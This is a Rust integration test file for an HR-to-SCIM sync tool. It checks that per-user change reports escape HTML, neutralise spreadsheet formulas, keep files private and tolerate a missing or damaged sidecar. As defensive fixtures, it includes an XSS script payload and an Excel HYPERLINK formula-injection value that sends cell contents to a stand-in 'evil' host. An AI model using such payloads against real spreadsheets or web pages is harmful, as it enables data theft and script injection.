//! The run report's per-user changes: `upload --state` against the Graph emulator shows which
//! attribute of which user changes from what to what, keeps the last sent documents beside the
//! state, copes with that sidecar missing or damaged, and a 100,000-user delta run's report stays
//! small enough to mail.

use crate::support::delta_upload::{text, upload, MAP};
use crate::support::graph_emulator;

use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::process::Command;

use graph_emulator::{Config, Emulator};

const BIN: &str = env!("CARGO_BIN_EXE_hr2scim");

fn export(dir: &Path, rows: &[(u32, String)]) -> String {
    let mut s = String::from("Id,Status,Title,Name,Dept\n");
    for (id, title) in rows {
        s.push_str(&format!(
            "{id},Active,\"{}\",Name{id},D{}\n",
            title.replace('"', "\"\""),
            id % 3
        ));
    }
    let p = dir.join("hr.csv");
    fs::write(&p, s).unwrap();
    p.display().to_string()
}

fn mode(p: &Path) -> u32 {
    fs::metadata(p).unwrap().permissions().mode() & 0o777
}

fn row(user: &str, attr: &str, from: &str, to: &str) -> String {
    format!(
        "<tr><td class=\"user\">{user}</td><td class=\"attr\">{attr}</td><td class=\"from\">{from}</td><td class=\"to\">{to}</td></tr>"
    )
}

#[test]
fn a_changed_attribute_shows_its_before_and_after() {
    let emu = Emulator::start(Config::default());
    let tmp = tempfile::tempdir().unwrap();
    let d = tmp.path();
    let mut rows: Vec<(u32, String)> = (1..=30).map(|i| (i, "Clerk".to_string())).collect();
    let o = upload(&emu, d, &export(d, &rows), &[]);
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
    let sidecar = d.join("hr.state.docs.gz");
    assert_eq!(mode(&sidecar), 0o600, "the last sent documents are personal data");
    let html = fs::read_to_string(d.join("out/report.html")).unwrap();
    assert!(html.contains("<h2>Changes (0 users, 0 attributes)</h2>"), "first run: all new");

    // Day 2: one title changes (to a hostile value), one user leaves.
    rows[6].1 = "<script>alert(1)</script> & \"Boss\"".into();
    rows.retain(|r| r.0 != 30);
    let o = upload(&emu, d, &export(d, &rows), &["--leavers", "disable", "--max-leavers", "5"]);
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
    let report = d.join("out/report.html");
    assert_eq!(mode(&report), 0o600);
    let html = fs::read_to_string(&report).unwrap();
    assert!(html.contains("<h2>Changes (2 users, 2 attributes)</h2>"), "{html}");
    let hostile = "&lt;script&gt;alert(1)&lt;/script&gt; &amp; &quot;Boss&quot;";
    assert!(html.contains(&row("7", "title", "Clerk", hostile)), "{html}");
    assert!(html.contains(&row("30", "active", "true", "false")), "{html}");
    assert!(!html.contains("<script>alert"), "escaped");
    assert!(html.contains("<table id=\"changes\">") && html.contains("data-filter=\"changes\""));
    assert!(!html.contains("changes-unknown"), "{html}");
    let csv = d.join("out/changes.csv");
    assert_eq!(mode(&csv), 0o600);
    assert_eq!(
        fs::read_to_string(&csv).unwrap(),
        "externalId,attribute,from,to\n7,title,Clerk,\"<script>alert(1)</script> & \"\"Boss\"\"\"\n30,active,true,false\n"
    );
    let manifest = fs::read_to_string(d.join("out/.hr2scim-manifest.json")).unwrap();
    assert!(manifest.contains("\"changes.csv\""), "recorded as the tool's own: {manifest}");

    // Day 3: nothing changes; the last run's changes.csv does not linger.
    let o = upload(&emu, d, &export(d, &rows), &["--leavers", "disable", "--max-leavers", "5"]);
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
    let html = fs::read_to_string(&report).unwrap();
    assert!(html.contains("<h2>Changes (0 users, 0 attributes)</h2>"), "{html}");
    assert_eq!(fs::read_to_string(&csv).unwrap(), "externalId,attribute,from,to\n");

    // Day 4: the user changes again: "from" is day 2's value, kept in the sidecar.
    rows[6].1 = "Chief".into();
    let o = upload(&emu, d, &export(d, &rows), &[]);
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
    let html = fs::read_to_string(&report).unwrap();
    assert!(html.contains(&row("7", "title", hostile, "Chief")), "{html}");
}

/// changes.csv holds HR values and is opened in Excel: a value Excel would run as a formula is
/// written as text, in both columns it can appear in; a phone number stays as it is.
#[test]
fn changes_csv_neutralises_formulas_and_keeps_its_columns() {
    let emu = Emulator::start(Config::default());
    let tmp = tempfile::tempdir().unwrap();
    let d = tmp.path();
    let mut rows: Vec<(u32, String)> = (1..=5).map(|i| (i, "Clerk".to_string())).collect();
    let o = upload(&emu, d, &export(d, &rows), &[]);
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
    let evil = r#"=HYPERLINK("http://evil/?"&A1,"x")"#;
    rows[1].1 = evil.into();
    rows[2].1 = "+49 89 5558796".into();
    rows[3].1 = "@SUM(1+1)".into();
    let o = upload(&emu, d, &export(d, &rows), &[]);
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
    // Read as CSV: every record has the header's four columns.
    let mut r = csv::Reader::from_path(d.join("out/changes.csv")).unwrap();
    let got: Vec<Vec<String>> = r
        .records()
        .map(|x| x.expect("four columns").iter().map(str::to_string).collect())
        .collect();
    assert_eq!(
        got,
        [
            ["2", "title", "Clerk", format!("'{evil}").as_str()],
            ["3", "title", "Clerk", "+49 89 5558796"],
            ["4", "title", "Clerk", "'@SUM(1+1)"],
        ]
    );
    // Day 3: the formula is the "from" side now.
    rows[1].1 = "Boss".into();
    let o = upload(&emu, d, &export(d, &rows), &[]);
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
    let day3 = fs::read_to_string(d.join("out/changes.csv")).unwrap();
    assert_eq!(
        day3,
        "externalId,attribute,from,to\n2,title,\"'=HYPERLINK(\"\"http://evil/?\"\"&A1,\"\"x\"\")\",Boss\n"
    );
}

/// The sidecar only informs the report: gone or damaged, the run sends exactly the same users
/// and the report says "from" is unknown.
#[test]
fn a_missing_or_damaged_sidecar_makes_from_unknown_and_changes_nothing_sent() {
    let emu = Emulator::start(Config::default());
    let tmp = tempfile::tempdir().unwrap();
    let d = tmp.path();
    let mut rows: Vec<(u32, String)> = (1..=10).map(|i| (i, "Clerk".to_string())).collect();
    let o = upload(&emu, d, &export(d, &rows), &[]);
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
    let sidecar = d.join("hr.state.docs.gz");

    fs::remove_file(&sidecar).unwrap();
    rows[1].1 = "Manager".into();
    let before = emu.state().accepted.len();
    let o = upload(&emu, d, &export(d, &rows), &[]);
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
    let sent: Vec<String> =
        emu.state().accepted[before..].iter().map(|a| a.external_id.clone()).collect();
    assert_eq!(sent, ["2"]);
    let html = fs::read_to_string(d.join("out/report.html")).unwrap();
    assert!(
        html.contains("id=\"changes-unknown\" data-count=\"1\">1 changed user(s) not shown"),
        "{html}"
    );
    assert!(html.contains("earlier release"), "says why: {html}");
    assert!(sidecar.exists(), "written again with this run's documents");

    fs::write(&sidecar, b"\x1f\x8b garbage").unwrap();
    rows[2].1 = "Manager".into();
    let before = emu.state().accepted.len();
    let o = upload(&emu, d, &export(d, &rows), &[]);
    assert_eq!(o.status.code(), Some(0), "a warning, not an error: {}", text(&o));
    assert!(
        text(&o).contains("warning: the sent documents kept beside the state are damaged"),
        "{}",
        text(&o)
    );
    let sent: Vec<String> =
        emu.state().accepted[before..].iter().map(|a| a.external_id.clone()).collect();
    assert_eq!(sent, ["3"]);
    let html = fs::read_to_string(d.join("out/report.html")).unwrap();
    assert!(
        html.contains("data-count=\"1\">1 changed user(s) not shown") && html.contains("damaged"),
        "{html}"
    );

    // Rewritten whole from this run: user 3's next change has its "from" again.
    rows[2].1 = "Boss".into();
    let o = upload(&emu, d, &export(d, &rows), &[]);
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
    let html = fs::read_to_string(d.join("out/report.html")).unwrap();
    assert!(html.contains(&row("3", "title", "Manager", "Boss")), "{html}");

    // A dry run writes no state and no sidecar.
    let kept = fs::read(&sidecar).unwrap();
    rows[2].1 = "Chief".into();
    let o = upload(&emu, d, &export(d, &rows), &["--dry-run"]);
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
    assert_eq!(fs::read(&sidecar).unwrap(), kept);
    let html = fs::read_to_string(d.join("out/report.html")).unwrap();
    assert!(
        html.contains(&row("3", "title", "Boss", "Chief")),
        "a dry run shows what it would change: {html}"
    );
}

/// 100,000 users, every one changed: the report stays under 3 MiB and 0600, the table is cut
/// at whole users with the rest counted, and changes.csv has every row. The previous state and
/// its sidecar are built through the library (uploading 100,000 users to the emulator first
/// would take minutes in a debug build); the run itself is a real `convert --state`, the same
/// conversion and report an upload makes, without sending.
#[test]
fn a_100000_user_delta_report_stays_small_and_private() {
    use hr2scim::state::{doc_hash, write_sidecar, Entry, SentDocs, State};
    const N: u32 = 100_000;
    let tmp = tempfile::tempdir().unwrap();
    let d = tmp.path();
    let state_path = d.join("hr.state");
    let t = chrono::DateTime::from_timestamp(1_800_000_000, 0).unwrap();
    let mut state = State::default();
    let mut docs = SentDocs::default();
    for i in 1..=N {
        let doc = serde_json::to_vec(&serde_json::json!({
            "schemas": ["urn:ietf:params:scim:schemas:core:2.0:User", "urn:ietf:params:scim:schemas:extension:enterprise:2.0:User"],
            "externalId": i.to_string(),
            "userName": format!("{i}@x.example"),
            "active": true,
            "title": "Clerk",
            "name": {"familyName": format!("Name{i}")},
            "urn:ietf:params:scim:schemas:extension:enterprise:2.0:User": {"department": format!("D{}", i % 3)},
        }))
        .unwrap();
        state.users.insert(i.to_string(), Entry::pending(doc_hash(&doc), t, true));
        docs.push(&i.to_string(), &doc, false);
    }
    state.save(&state_path, "an earlier mapping", None, t).unwrap();
    write_sidecar(&state_path, &state, &mut docs).unwrap();

    let rows: Vec<(u32, String)> = (1..=N).map(|i| (i, format!("Analyst <{i}>"))).collect();
    let input = export(d, &rows);
    fs::write(d.join("m.map"), MAP).unwrap();
    let o = Command::new(BIN)
        .arg("convert")
        .arg(d.join("m.map"))
        .arg(&input)
        .arg("--out")
        .arg(d.join("out"))
        .arg("--state")
        .arg(&state_path)
        .arg("--quiet")
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
    let report = d.join("out/report.html");
    let size = fs::metadata(&report).unwrap().len();
    assert!(size < 3 << 20, "{size} bytes");
    assert_eq!(mode(&report), 0o600);
    let html = fs::read_to_string(&report).unwrap();
    assert!(
        html.contains("<h2>Changes (100000 users, 100000 attributes)</h2>"),
        "{}",
        &html[..2000]
    );
    assert!(html.contains(&row("1", "title", "Clerk", "Analyst &lt;1&gt;")));
    let shown = html.matches("<td class=\"user\">").count();
    assert_eq!(shown, hr2scim::run::REPORT_MAX_ROWS, "one row per user here, cut at the limit");
    assert!(html.contains("and 99500 more users (99500 changed attributes): see changes.csv"));
    let csv = d.join("out/changes.csv");
    assert_eq!(mode(&csv), 0o600);
    assert_eq!(fs::read_to_string(&csv).unwrap().lines().count(), N as usize + 1);
    println!("report.html: {size} bytes, changes.csv: {} bytes", fs::metadata(&csv).unwrap().len());
}
